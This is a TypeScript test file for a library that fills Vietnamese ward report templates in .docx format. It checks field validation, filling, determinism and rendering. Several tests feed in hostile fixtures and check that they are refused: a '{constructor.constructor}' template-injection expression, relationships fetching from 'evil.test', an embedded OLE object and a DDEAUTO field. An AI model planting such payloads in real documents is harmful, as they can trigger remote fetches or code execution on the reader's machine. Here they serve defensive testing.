// Real here: templates as .docx files, the library that fills them, our reader of reports, LibreOffice where it is there.
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { readReport } from '../../src/reader/read-report.ts'
import { fillTemplate, inspectTemplate } from '../../src/writer/docx/own-template.ts'
import { readDocxFacts } from '../../src/writer/docx-facts.ts'
import { assembleReport } from '../../src/writer/report.ts'
import { partsOf } from '../kit/docx.ts'
import { hoaMaiReport } from '../kit/hoa-mai-report.ts'
import { office, renderDocx } from '../kit/office.ts'
import { textInCell, wardTemplate, withEntry } from '../kit/ward-template.ts'

const report = assembleReport(hoaMaiReport)

test('a sound template is taken, its fields named', async () => {
  const { fields, problem } = await inspectTemplate(await wardTemplate())
  expect(problem).toBeNull()
  expect(fields).toContain('noi_dung')
  expect(fields).toContain('so_ky_hieu')
})

test.each([
  [
    'an unknown field',
    { more: ['{ten_chu_tich}'] },
    { code: 'template-unknown-fields', fields: ['ten_chu_tich'] },
  ],
  ['a loop', { more: ['{#noi_nhan}x{/noi_nhan}'] }, { code: 'template-unknown-fields' }],
  ['an expression', { more: ['{constructor.constructor}'] }, { code: 'template-unknown-fields' }],
  ['a missing field', { without: 'so_ky_hieu' }, { code: 'template-missing-fields', fields: ['so_ky_hieu'] }],
  ['the text in a cell', { text: textInCell() }, { code: 'template-text-place' }],
  ['the text twice', { more: ['{noi_dung}'] }, { code: 'template-text-place' }],
  ['an open brace', { more: ['{trich_yeu'] }, { code: 'template-braces' }],
] as const)('%s is refused', async (_, given, problem) => {
  expect((await inspectTemplate(await wardTemplate(given))).problem).toMatchObject(problem)
})

const RELATIONS = 'word/_rels/document.xml.rels'
const related =
  (type: string, more = ' TargetMode="External"') =>
  (xml: string) =>
    xml.replace(
      '</Relationships>',
      `<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://evil.test/x"${more}/></Relationships>`,
    )

test.each([
  ['a template from elsewhere', RELATIONS, related('attachedTemplate')],
  ['a picture from elsewhere', RELATIONS, related('image')],
  ['an object', 'word/embeddings/oleObject1.bin', () => 'x'],
  [
    'a field that fetches',
    'word/document.xml',
    (xml: string) => xml.replace('<w:body>', '<w:body><w:p><w:fldSimple w:instr="DDEAUTO c:\\x"/></w:p>'),
  ],
] as const)('%s is refused', async (_, path, change) => {
  const bytes = await withEntry(await wardTemplate(), path, change)
  expect((await inspectTemplate(bytes)).problem).toEqual({ code: 'template-active' })
})

test('a link to click does no harm', async () => {
  const bytes = await withEntry(await wardTemplate(), RELATIONS, related('hyperlink'))
  expect((await inspectTemplate(bytes)).problem).toBeNull()
})

test('a report is written into the template: fields, text, annexes, and the data that it carries', async () => {
  const bytes = await fillTemplate(await wardTemplate(), report)
  const parts = await partsOf(bytes)
  const { paragraphs, sections } = readDocxFacts(parts)
  const said = paragraphs.map(line => line.text.replaceAll('\u00a0', ' ')).join('\n')
  expect(said).toContain('PHƯỜNG HOA MAI')
  expect(said).toContain('I. CÔNG TÁC LÃNH ĐẠO, CHỈ ĐẠO')
  expect(said).not.toMatch(/[{}]/u)
  expect(parts['word/header1.xml']).toContain('Mẫu riêng của phường')
  expect(sections.map(section => section.landscape)).toEqual([false, true, true, true, true])
  expect(sections.slice(1).map(section => section.startsAt)).toEqual([1, 1, 1, 1])
  const read = await readReport(bytes, 'bao-cao.docx')
  expect(read).toMatchObject({ carrier: 'data', differences: [] })
})

test('a field that Word or LibreOffice cut into runs is one field', async () => {
  const cut = (xml: string): string =>
    xml
      .replace('{noi_dung}', '{noi</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>_du</w:t></w:r><w:r><w:t>ng}')
      .replace('{so_ky_hieu}', '{so_</w:t></w:r><w:r><w:rPr><w:i/></w:rPr><w:t>ky_hieu}')
  const template = await withEntry(await wardTemplate(), 'word/document.xml', cut)
  expect((await inspectTemplate(template)).problem).toBeNull()
  const { paragraphs } = readDocxFacts(await partsOf(await fillTemplate(template, report)))
  expect(paragraphs.some(one => one.text.includes('I. CÔNG TÁC LÃNH ĐẠO, CHỈ ĐẠO'))).toBe(true)
  expect(paragraphs.filter(one => one.text.includes('{'))).toEqual([])
})

test('a part of custom XML that the template has stays beside ours', async () => {
  const own = await withEntry(await wardTemplate(), 'customXml/item1.xml', () => '<own xmlns="urn:own"/>')
  const bytes = await fillTemplate(own, report)
  const parts = await partsOf(bytes)
  expect(parts['customXml/item1.xml']).toContain('urn:own')
  expect(await readReport(bytes, 'bao-cao.docx')).toMatchObject({ carrier: 'data', differences: [] })
})

test('the same report in the same template gives the same bytes', async () => {
  const template = await wardTemplate()
  const first = await fillTemplate(template, report)
  expect(Buffer.compare(first, await fillTemplate(template, report))).toBe(0)
})

test.skipIf(office.skip)(`it renders ${office.why}`, { timeout: 240_000 }, async () => {
  const folder = join(import.meta.dirname, '..', 'artefacts', 'writer')
  const { pages } = await renderDocx('own-template', await fillTemplate(await wardTemplate(), report), folder)
  expect(pages.length).toBeGreaterThan(6)
  expect(pages[0]).toContain('Mẫu riêng của phường')
})
